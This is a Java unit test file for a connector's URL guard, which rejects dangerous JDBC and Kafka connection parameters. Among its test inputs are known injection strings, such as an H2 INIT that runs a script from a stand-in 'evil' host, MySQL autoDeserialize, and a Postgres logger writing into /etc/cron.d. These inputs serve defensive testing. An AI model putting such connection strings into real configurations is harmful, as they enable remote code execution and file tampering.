package io.plumbline.connectors.support;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.plumbline.engine.error.ErrorCode;
import io.plumbline.engine.error.PlumblineException;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class UrlGuardTest {

    private static PlumblineException refusal(String kind, String url) {
        PlumblineException e =
                catchThrowableOfType(PlumblineException.class, () -> UrlGuard.check(kind, url));
        assertThat(e).as(url).isNotNull();
        assertThat(e.problem().place().field()).isEqualTo("url");
        return e;
    }

    @Test
    void takesGoodUrlsApart() {
        UrlGuard.Address postgres =
                UrlGuard.check(
                        "postgres", "jdbc:postgresql://db:5432/crm?sslmode=require&user=a%20b");
        assertThat(postgres.location()).isEqualTo("//db:5432/crm");
        assertThat(postgres.parameters()).isEqualTo(Map.of("sslmode", "require", "user", "a b"));

        UrlGuard.Address h2 = UrlGuard.check("h2", "jdbc:h2:file:./data/hr;ifexists=TRUE");
        assertThat(h2.location()).isEqualTo("file:./data/hr");
        assertThat(h2.parameters()).isEqualTo(Map.of("IFEXISTS", "TRUE"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "h2 | jdbc:h2:./x;INIT=RUNSCRIPT FROM 'http://evil/x.sql' | INIT",
                "h2 | jdbc:h2:./x;init=RUNSCRIPT FROM 'x' | init",
                "h2 | jdbc:h2:./x;IFEXISTS=TRUE;InIt=SET X 1 | InIt",
                "h2 | jdbc:h2:./x;IFEXISTS=TRUE\\;INIT=RUNSCRIPT | INIT",
                "h2 | jdbc:h2:./x\\;INIT=RUNSCRIPT | INIT",
                "h2 | jdbc:h2:./x;TRACE_LEVEL_FILE=4 | TRACE_LEVEL_FILE",
                "h2 | jdbc:h2:./x;TRACE_LEVEL_SYSTEM_OUT=3 | TRACE_LEVEL_SYSTEM_OUT",
                "h2 | jdbc:h2:./x;AUTO_SERVER=TRUE | AUTO_SERVER",
                "h2 | jdbc:h2:./x;DATABASE_EVENT_LISTENER='x.Y' | DATABASE_EVENT_LISTENER",
                "h2 | jdbc:h2:./x;AUTHENTICATOR=TRUE | AUTHENTICATOR",
                "h2 | jdbc:h2:./x;FORBID_CREATION=FALSE | FORBID_CREATION",
                "h2 | jdbc:h2:./x;IGNORE_UNKNOWN_SETTINGS=TRUE | IGNORE_UNKNOWN_SETTINGS",
                "mysql | jdbc:mysql://h/d?allowLoadLocalInfile=true | allowLoadLocalInfile",
                "mysql | jdbc:mysql://h/d?allowUrlInLocalInfile=true | allowUrlInLocalInfile",
                "mysql | jdbc:mysql://h/d?autoDeserialize=true | autoDeserialize",
                "mysql | jdbc:mysql://h/d?queryInterceptors=x.Y | queryInterceptors",
                "mysql | jdbc:mysql://h/d?user=a&%61utoDeserialize=true | %61utoDeserialize",
                "mariadb | jdbc:mariadb://h/d?serverRsaPublicKeyFile=/etc/x |"
                        + " serverRsaPublicKeyFile",
                "postgres | jdbc:postgresql://h/d?socketFactory=x.Y | socketFactory",
                "postgres | jdbc:postgresql://h/d?socketFactoryArg=http://e | socketFactoryArg",
                "postgres | jdbc:postgresql://h/d?sslfactory=x.Y | sslfactory",
                "postgres | jdbc:postgresql://h/d?sslhostnameverifier=x.Y | sslhostnameverifier",
                "postgres | jdbc:postgresql://h/d?loggerFile=/etc/cron.d/x | loggerFile",
                "postgres | jdbc:postgresql://h/d?loggerLevel=TRACE | loggerLevel",
                "postgres | jdbc:postgresql://h/d?preferQueryMode=simple | preferQueryMode",
                "postgres | jdbc:postgresql://h/d?authenticationPluginClassName=x |"
                        + " authenticationPluginClassName",
                "postgres | jdbc:postgresql://h/d?service=x | service",
                "avatica | jdbc:avatica:remote:url=http://h;httpclient_impl=x.Y |"
                        + " httpclient_impl",
                "avatica | jdbc:avatica:remote:url=http://h;HTTPCLIENT_IMPL=x.Y |"
                        + " HTTPCLIENT_IMPL",
                "snowflake | jdbc:snowflake://h/?authenticator=https://evil | authenticator",
                "snowflake | jdbc:snowflake://h/?tracing=ALL | tracing",
            })
    void refusesParametersThatAreNotOnTheList(String kind, String url, String parameter) {
        PlumblineException e = refusal(kind, url);

        assertThat(e)
                .hasMessage(
                        "Cannot use connection URL: its parameter '"
                                + parameter
                                + "' is not allowed");
        assertThat(e.problem().code()).isEqualTo(ErrorCode.CONNECTION_URL_REFUSED);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "h2 | jdbc:h2:./x%3BINIT=RUNSCRIPT",
                "h2 | jdbc:h2:./x%3binit=RUNSCRIPT",
                "postgres | jdbc:postgresql://h/d%3FsocketFactory=x",
                "postgres | jdbc:postgresql://h/d%00",
                "postgres | jdbc:postgresql://h/d?user=a%26socketFactory=x",
            })
    void refusesEscapedSeparators(String kind, String url) {
        assertThat(refusal(kind, url))
                .hasMessage(
                        "Cannot use connection URL: it holds an escaped or forbidden character");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "postgres | jdbc:mysql://h/d",
                "postgres | jdbc:h2:mem:x",
                "h2 | jdbc:postgresql://h/d",
                "postgres | http://h/d",
            })
    void refusesOtherSchemes(String kind, String url) {
        assertThat(refusal(kind, url))
                .hasMessage("Cannot use connection URL: its scheme is not that of '" + kind + "'");
    }

    @Test
    void refusesSystemsThatItDoesNotKnow() {
        assertThat(refusal("oracle", "jdbc:oracle:thin:@h"))
                .hasMessage(
                        "Cannot use connection URL: 'oracle' is no system that URLs are known of");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "postgres | jdbc:postgresql://app:hunter2@h/d",
                "postgres | jdbc:postgresql://h/d?user=a&password=hunter2",
                "postgres | jdbc:postgresql://h/d?PASSWORD=hunter2",
                "postgres | jdbc:postgresql://h/d?%70assword=hunter2",
                "postgres | jdbc:postgresql://h/d?sslpassword=hunter2",
                "h2 | jdbc:h2:./x;USER=sa;PASSWORD=hunter2",
                "h2 | jdbc:h2:./x;PASSWORD_HASH=TRUE;password=hunter2",
                "snowflake | jdbc:snowflake://h/?token=hunter2",
                "snowflake | jdbc:snowflake://h/?private_key_pwd=hunter2",
                "mysql | jdbc:mysql://app:hunter2@h/d",
            })
    void findsSecretsWithoutRepeatingThem(String kind, String url) {
        PlumblineException e = refusal(kind, url);

        assertThat(e.problem().code()).isEqualTo(ErrorCode.SECRET_IN_CLEAR_TEXT);
        assertThat(e).hasMessageStartingWith("Cannot use connection URL: it holds a secret");
        assertThat(e.problem().toString()).doesNotContain("hunter2");
    }

    @Test
    void refusesDangerousClientSettings() {
        Map<String, String> good =
                Map.of("bootstrap.servers", "k:9092", "security.protocol", "SSL");
        UrlGuard.checkSettings("kafka", good);

        for (String name :
                new String[] {
                    "sasl.login.callback.handler.class",
                    "sasl.oauthbearer.jwks.endpoint.url",
                    "interceptor.classes",
                    "key.deserializer"
                }) {
            PlumblineException e =
                    catchThrowableOfType(
                            PlumblineException.class,
                            () -> UrlGuard.checkSettings("kafka", Map.of(name, "file:/x")));
            assertThat(e)
                    .hasMessage(
                            "Cannot use connection URL: its parameter '"
                                    + name
                                    + "' is not allowed");
        }
        for (String name :
                new String[] {"sasl.jaas.config", "sasl.oauthbearer.token.endpoint.url"}) {
            PlumblineException e =
                    catchThrowableOfType(
                            PlumblineException.class,
                            () ->
                                    UrlGuard.checkSettings(
                                            "kafka", Map.of(name, "x.JndiLoginModule")));
            assertThat(e)
                    .hasMessage("Cannot use connection URL: it holds a secret as '" + name + "'");
        }
    }

    @Test
    void refusesDoubleAndEndlessParameters() {
        assertThat(refusal("postgres", "jdbc:postgresql://h/d?user=a&user=b"))
                .hasMessage("Cannot use connection URL: it has the parameter 'user' twice");
        assertThat(refusal("postgres", "jdbc:postgresql://h/" + "d".repeat(2_000)))
                .hasMessage("Cannot use connection URL: it is longer than 2000 characters");
    }
}
